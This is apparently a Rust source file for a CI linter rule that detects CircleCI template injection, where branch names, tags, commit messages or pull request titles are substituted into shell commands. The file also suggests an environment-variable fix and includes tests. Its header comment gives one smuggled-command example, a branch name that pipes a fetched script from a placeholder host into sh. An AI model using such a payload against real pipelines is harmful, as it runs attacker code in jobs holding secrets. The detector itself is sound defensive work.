//! `template-injection`: text someone outside the team can choose (a branch or tag name, a
//! commit message, a pull request title) substituted into a `run` command with `<< >>`.
//!
//! CircleCI replaces `<< pipeline.git.branch >>` in the config's text before the shell runs:
//! the value becomes shell code, so a branch called `x;curl${IFS}evil.sh|sh` runs a command in
//! a job that holds the project's secrets. (An environment variable such as `$CIRCLE_BRANCH`
//! is different: the shell expands it as data, never as code.)
//!
//! What is followed: a pipeline value whose text others choose, used in a `run` command
//! directly (high confidence); and a job's or command's parameter that receives such a value
//! (from a workflow, a matrix, a step that calls the command, a default, or another parameter
//! that does), used in a `run` command (medium confidence: the parameter may also get safe
//! values). Calls into inline orbs and into orbs whose source is in the orb cache are followed
//! one level: the finding is at the argument in the config.

use super::Rule;
use crate::analysis::context::Context;
use crate::base::diagnostic::{Confidence, Diagnostic, Edit, Fix, Severity};
use crate::base::span::Span;
use crate::config::model::{Config, Scope, Step, StepKind, orb_ref};
use crate::config::orbs::{self, Lookup, Member, MemberKind};
use crate::lang::mustache::{self, RefKind};
use crate::yaml::Node;
use crate::yaml::walk::walk_scalars;
use std::collections::HashMap;

pub static TEMPLATE_INJECTION: Rule = Rule {
    id: "template-injection",
    severity: Severity::Warning,
    summary: "a branch name, tag, commit message or PR title is substituted into a `run` command with `<< >>`, where it becomes shell code",
    explanation: include_str!("docs/template-injection.md"),
    // CWE-78: OS command injection.
    category: super::Category::Security { cwe: 78, score: 80 },
    check: Some(check),
};

/// Whether others choose the text of pipeline value `name`: a branch or tag name, a commit's
/// message or author, a pull request's title or body (in `pipeline.git.*`,
/// `pipeline.trigger_parameters.*` and `pipeline.event.*`).
pub fn attacker_controlled(name: &str) -> bool {
    if matches!(name, "pipeline.git.branch" | "pipeline.git.tag") {
        return true;
    }
    let open = ["pipeline.trigger_parameters.", "pipeline.event.", "pipeline.git.commit."];
    if !open.iter().any(|p| name.starts_with(p)) {
        return false;
    }
    let last = name.rsplit('.').next().unwrap_or("");
    const WORDS: &[&str] = &[
        "branch", "tag", "ref", "message", "title", "body", "subject", "author", "label", "description",
        "comment", "head_ref", "base_ref", "text",
    ];
    WORDS.iter().any(|w| last == *w || last.contains(w)) && !last.ends_with("_id")
}

/// Whether every workflow entry that runs job `job` keeps it to branches named in full
/// (`filters: branches: only: [main, release]`, no `/regex/`): the branch name it sees is
/// then one of those, not text someone else chose. `false` when no entry runs the job.
fn branches_named_only(config: &Config, job: &str) -> bool {
    let mut any = false;
    for wf in &config.workflows {
        for inv in wf.jobs.iter().filter(|inv| inv.job.text == job) {
            any = true;
            let only = inv
                .filters
                .and_then(|f| f.get("branches"))
                .and_then(|b| b.get("only"));
            let names: Vec<&Node> = match only {
                None => return false,
                Some(n) => match n.as_seq() {
                    Some(items) => items.iter().collect(),
                    None => vec![n],
                },
            };
            let literal = |n: &&Node| {
                n.as_str()
                    .is_some_and(|t| !t.is_empty() && !t.starts_with('/') && !t.contains("<<"))
            };
            if names.is_empty() || !names.iter().all(literal) {
                return false;
            }
        }
    }
    any
}

/// The first attacker-controlled pipeline value in the scalars under `node`: its name and the
/// span of its `<< >>` tag in the file.
fn attacker_value(cx: &Context, node: &Node) -> Option<(String, Span)> {
    let mut found = None;
    walk_scalars(node, 64, &mut |s| {
        if found.is_some() {
            return;
        }
        let Some(text) = s.scalar_text().filter(|t| t.contains("<<")) else {
            return;
        };
        for r in mustache::references(text) {
            if r.kind == RefKind::PipelineValue && attacker_controlled(&r.full_name) {
                found = Some((r.full_name.clone(), mustache::source_span(cx.source, s, r.span)));
                return;
            }
        }
    });
    found
}

/// The parameters of the caller that the scalars under `node` reference.
fn parameter_refs(node: &Node) -> Vec<String> {
    let mut out = Vec::new();
    walk_scalars(node, 64, &mut |s| {
        if let Some(text) = s.scalar_text().filter(|t| t.contains("<<")) {
            out.extend(
                mustache::references(text)
                    .into_iter()
                    .filter(|r| r.kind == RefKind::Parameter)
                    .map(|r| r.name),
            );
        }
    });
    out
}

/// Where a parameter's tainted value comes from.
#[derive(Clone, Debug)]
struct Taint {
    /// The pipeline value at the origin (`pipeline.git.branch`).
    value: String,
    /// Where it enters the config.
    origin: Span,
}

/// (member kind, member name, parameter) → where its tainted value comes from.
type Taints = HashMap<(&'static str, String, String), Taint>;

fn check(cx: &Context, out: &mut Vec<Diagnostic>) {
    let mut seen = std::collections::HashSet::new();
    for scope in cx.scopes() {
        let taints = taints(cx, &scope);
        for (owner, step) in scope.config.all_steps() {
            let (kind, member) = match owner {
                crate::config::model::StepOwner::Job(j) => ("job", j.name.text),
                crate::config::model::StepOwner::Command(c) => ("command", c.name.text),
                crate::config::model::StepOwner::Invocation(_, inv) => ("job", inv.job.text),
            };
            if let Some(node) = step.run_command() {
                let start = out.len();
                sinks(cx, node, kind, member, &taints, &mut seen, out);
                for d in &mut out[start..] {
                    d.fix = environment_fix(cx.source, step.args, d.primary.span);
                }
            }
            // Calls into an orb whose source is at hand: one level.
            orb_calls(cx, &scope, step, kind, member, &taints, &mut seen, out);
        }
    }
}

/// The findings in one `run` command.
fn sinks(
    cx: &Context,
    node: &Node,
    kind: &'static str,
    member: &str,
    taints: &Taints,
    seen: &mut std::collections::HashSet<Span>,
    out: &mut Vec<Diagnostic>,
) {
    let Some(text) = node.as_str().filter(|t| t.contains("<<")) else {
        return;
    };
    for r in mustache::references(text) {
        let span = mustache::source_span(cx.source, node, r.span);
        if r.kind == RefKind::PipelineValue && attacker_controlled(&r.full_name) {
            if r.full_name == "pipeline.git.branch"
                && kind == "job"
                && branches_named_only(cx.config, member)
            {
                continue; // the branch is one of the names its filters list
            }
            if seen.insert(span) {
                out.push(direct(&r.full_name, span));
            }
        } else if r.kind == RefKind::Parameter
            && let Some(t) = taints.get(&(kind, member.to_string(), r.name.clone()))
            && seen.insert(span)
        {
            out.push(
                TEMPLATE_INJECTION
                    .at(
                        span,
                        format!(
                            "`<< parameters.{} >>` is substituted into a `run` command, and the parameter receives `{}`, whose text others choose: it becomes shell code before the shell runs",
                            r.name, t.value
                        ),
                    )
                    .confidence(Confidence::Medium)
                    .label("substituted into the shell script")
                    .with_label(t.origin, format!("`{}` passed in here", t.value))
                    .help(safe_form(&format!("parameters.{}", r.name))),
            );
        }
    }
}

fn direct(value: &str, span: Span) -> Diagnostic {
    TEMPLATE_INJECTION
        .at(
            span,
            format!(
                "`{value}` is substituted into a `run` command: its text is chosen by whoever pushes the branch or tag (or writes the commit or pull request), and it becomes shell code before the shell runs"
            ),
        )
        .label("substituted into the shell script")
        .help(safe_form(value))
}

/// The environment variable the safe form passes `value` through (`BRANCH` for
/// `pipeline.git.branch`).
fn variable_for(value: &str) -> String {
    value
        .rsplit('.')
        .next()
        .unwrap_or("value")
        .to_ascii_uppercase()
        .replace('-', "_")
}

/// The safe form as a fix: the `<< value >>` at `tag` in the command becomes `"${VAR}"` (no
/// quotes added inside double quotes), and the step's `environment:` gets `VAR: << value >>`.
/// Only for `run` steps written as a block mapping, a tag outside single quotes, and a
/// variable the step does not already set to something else.
fn environment_fix(src: &str, args: Option<&Node>, tag: Span) -> Option<Fix> {
    use crate::base::fix::line_break;
    let args = args.filter(|a| a.alias.is_none())?;
    let map = args.as_map()?;
    let written = tag.slice(src);
    let inner = written.strip_prefix("<<")?.strip_suffix(">>")?.trim();
    if inner.is_empty() || inner.contains(['<', '>', '\n']) {
        return None;
    }
    let var = variable_for(inner);
    if var.is_empty() || !var.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
        return None;
    }
    // Quotes open before the tag on its line.
    let line_start = src[..tag.start as usize].rfind('\n').map_or(0, |i| i + 1);
    let (mut double, mut single, mut escaped) = (false, false, false);
    for c in src[line_start..tag.start as usize].chars() {
        match c {
            _ if escaped => escaped = false,
            '\\' if !single => escaped = true,
            '"' if !single => double = !double,
            '\'' if !double => single = !single,
            _ => {}
        }
    }
    if single {
        return None;
    }
    let reference = if double {
        format!("${{{var}}}")
    } else {
        format!("\"${{{var}}}\"")
    };
    let value = format!("<< {inner} >>");
    let nl = line_break(src);
    let mut edits = vec![Edit::replace(tag, reference)];
    let entry = map
        .iter()
        .find(|(k, _)| k.scalar_text() == Some("environment"));
    match entry {
        Some((_, env)) => {
            let entries = env.as_map()?;
            if let Some((_, v)) = entries.iter().find(|(k, _)| k.scalar_text() == Some(&var)) {
                if v.scalar_text().map(str::trim) != Some(value.as_str()) {
                    return None;
                }
            } else {
                let (first, _) = entries.first()?;
                let (_, last) = entries.last()?;
                let key_line = src[..first.span.start as usize].rfind('\n').map_or(0, |i| i + 1);
                let col = first.span.start as usize - key_line;
                if !src[key_line..first.span.start as usize].bytes().all(|b| b == b' ') {
                    return None; // a flow mapping
                }
                let end = last.span.end.max(first.span.end) as usize;
                let at = src[end..].find('\n').map(|i| end + i + 1)?;
                if src[end..at].trim_start().starts_with(|c: char| c != '#' && !c.is_whitespace()) {
                    return None;
                }
                edits.push(Edit::insert(at, format!("{}{var}: {value}{nl}", " ".repeat(col))));
            }
        }
        None => {
            let (command, _) = map.iter().find(|(k, _)| k.scalar_text() == Some("command"))?;
            let at = command.span.start as usize;
            let start = src[..at].rfind('\n').map_or(0, |i| i + 1);
            if !src[start..at].bytes().all(|b| b == b' ') {
                return None;
            }
            let col = at - start;
            edits.push(Edit::insert(
                start,
                format!(
                    "{pad}environment:{nl}{pad}  {var}: {value}{nl}",
                    pad = " ".repeat(col)
                ),
            ));
        }
    }
    Some(Fix::safe(
        format!("pass `{inner}` through the environment variable `{var}`"),
        edits,
    ))
}

fn safe_form(value: &str) -> String {
    let var = variable_for(value);
    format!(
        "pass it through the step's `environment:` (`environment: {{ {var}: << {value} >> }}`) and use \"${var}\", quoted, in the script: an environment variable is data, never code"
    )
}

/// Arguments of a step that calls an orb command whose source is at hand, and whose `run`
/// steps substitute the parameter.
#[allow(clippy::too_many_arguments)]
fn orb_calls(
    cx: &Context,
    scope: &Scope,
    step: &Step,
    kind: &'static str,
    member: &str,
    taints: &Taints,
    seen: &mut std::collections::HashSet<Span>,
    out: &mut Vec<Diagnostic>,
) {
    let Some(name) = step.name else { return };
    if !matches!(step.kind, StepKind::Call) || orb_ref(name.text).is_none() {
        return;
    }
    let Lookup::Found(Member::Command(cmd), _) =
        orbs::lookup(&cx.orbs, cx.config, scope, MemberKind::Command, name.text)
    else {
        return;
    };
    for arg in step.arguments() {
        let (value, origin, confidence) = match attacker_value(cx, arg.value) {
            Some((v, at)) => (v, at, Confidence::High),
            None => {
                let Some(t) = parameter_refs(arg.value)
                    .into_iter()
                    .find_map(|p| taints.get(&(kind, member.to_string(), p)))
                else {
                    continue;
                };
                (t.value.clone(), t.origin, Confidence::Medium)
            }
        };
        if !substitutes_in_run(&cmd.steps, arg.name.text) {
            continue;
        }
        let span = arg.value.use_span();
        if !seen.insert(span) {
            continue;
        }
        let mut d = TEMPLATE_INJECTION
            .at(
                span,
                format!(
                    "`{value}` is passed to `{}`, which substitutes its `{}` into a `run` command: it becomes shell code before the shell runs",
                    name.text, arg.name.text
                ),
            )
            .confidence(confidence)
            .label(format!("reaches a `run` command of `{}`", name.text));
        if origin != span {
            d = d.with_label(origin, format!("`{value}` comes from here"));
        }
        out.push(d.help(format!(
            "pass the value to the orb some other way if it allows one (an environment variable it reads), or validate it first; `{value}` is chosen by whoever pushes the branch or tag"
        )));
    }
}

/// Whether a `run` command among `steps` (at any depth) substitutes `<< parameters.p >>`.
fn substitutes_in_run(steps: &[Step], p: &str) -> bool {
    let mut found = false;
    for s in steps {
        s.walk(&mut |st| {
            if let Some(text) = st.run_command().and_then(Node::as_str) {
                found |= mustache::references(text)
                    .iter()
                    .any(|r| r.kind == RefKind::Parameter && r.name == p);
            }
        });
    }
    found
}

/// Which parameters of the scope's jobs and commands receive attacker-controlled text, to a
/// fixed point (a command passes its tainted parameter on to the commands it calls).
fn taints(cx: &Context, scope: &Scope) -> Taints {
    let cfg: &Config = scope.config;
    let mut taints: Taints = HashMap::new();
    let add = |taints: &mut Taints, kind: &'static str, member: &str, p: &str, t: Taint| {
        taints
            .entry((kind, member.to_string(), p.to_string()))
            .or_insert(t);
    };
    // Defaults.
    let members = cfg
        .jobs
        .iter()
        .map(|j| ("job", j.name.text, &j.parameters))
        .chain(cfg.commands.iter().map(|c| ("command", c.name.text, &c.parameters)));
    for (kind, name, params) in members {
        for p in params.iter() {
            if let Some((value, origin)) = p.default.and_then(|d| attacker_value(cx, d)) {
                add(&mut taints, kind, name, p.name.text, Taint { value, origin });
            }
        }
    }
    // Workflows: arguments and matrix values of the jobs they run.
    if scope.orb.is_none() {
        for inv in cfg.workflows.iter().flat_map(|w| w.jobs.iter()) {
            for arg in &inv.args {
                if let Some((value, origin)) = attacker_value(cx, arg.value) {
                    add(&mut taints, "job", inv.job.text, arg.name.text, Taint { value, origin });
                }
            }
            for (p, values) in inv.matrix.iter().flat_map(|m| m.parameters.iter()) {
                if let Some((value, origin)) = attacker_value(cx, values) {
                    add(&mut taints, "job", inv.job.text, p.text, Taint { value, origin });
                }
            }
        }
    }
    // Steps calling the scope's commands, to a fixed point.
    loop {
        let before = taints.len();
        for (owner, step) in cfg.all_steps() {
            let Some(name) = step.name else { continue };
            if !matches!(step.kind, StepKind::Call) || cfg.command(name.text).is_none() {
                continue;
            }
            let (kind, member) = match owner {
                crate::config::model::StepOwner::Job(j) => ("job", j.name.text),
                crate::config::model::StepOwner::Command(c) => ("command", c.name.text),
                crate::config::model::StepOwner::Invocation(_, inv) => ("job", inv.job.text),
            };
            for arg in step.arguments() {
                let t = attacker_value(cx, arg.value)
                    .map(|(value, origin)| Taint { value, origin })
                    .or_else(|| {
                        parameter_refs(arg.value).into_iter().find_map(|p| {
                            taints.get(&(kind, member.to_string(), p)).cloned()
                        })
                    });
                if let Some(t) = t {
                    add(&mut taints, "command", name.text, arg.name.text, t);
                }
            }
        }
        if taints.len() == before {
            break;
        }
    }
    taints
}

#[cfg(test)]
mod tests {
    use super::attacker_controlled;

    #[test]
    fn which_values_others_choose() {
        for yes in [
            "pipeline.git.branch",
            "pipeline.git.tag",
            "pipeline.trigger_parameters.github_app.commit_message",
            "pipeline.trigger_parameters.gitlab.branch",
            "pipeline.event.github.pull_request.title",
            "pipeline.event.github.pull_request.body",
            "pipeline.git.commit.subject",
        ] {
            assert!(attacker_controlled(yes), "{yes}");
        }
        for no in [
            "pipeline.git.revision",
            "pipeline.git.base_revision",
            "pipeline.number",
            "pipeline.project.slug",
            "pipeline.trigger_source",
            "pipeline.schedule.name",
            "pipeline.event.github.pull_request.head_sha",
            "pipeline.trigger_parameters.gitlab.commit_sha",
        ] {
            assert!(!attacker_controlled(no), "{no}");
        }
    }
}

#[cfg(test)]
mod filter_tests {
    use super::*;
    use crate::config::settings::Settings;
    use crate::rules::env_vars::tests::run_rule;

    #[test]
    fn a_job_kept_to_named_branches_sees_only_those_names() {
        let job = "jobs:\n  deploy:\n    docker: [{image: cimg/base:2024.01}]\n    steps:\n      - run: echo << pipeline.git.branch >>\n";
        let named = format!(
            "version: 2.1\n{job}workflows:\n  w:\n    jobs:\n      - deploy:\n          filters:\n            branches:\n              only: [main, release]\n"
        );
        assert!(run_rule(&TEMPLATE_INJECTION, &named, &Settings::default()).is_empty());
        // A regex admits names someone else picks; so does an entry without a filter.
        let regex = named.replace("[main, release]", "/release-.*/");
        assert_eq!(run_rule(&TEMPLATE_INJECTION, &regex, &Settings::default()).len(), 1);
        let second = format!("{named}  v:\n    jobs: [deploy]\n");
        assert_eq!(run_rule(&TEMPLATE_INJECTION, &second, &Settings::default()).len(), 1);
    }
}
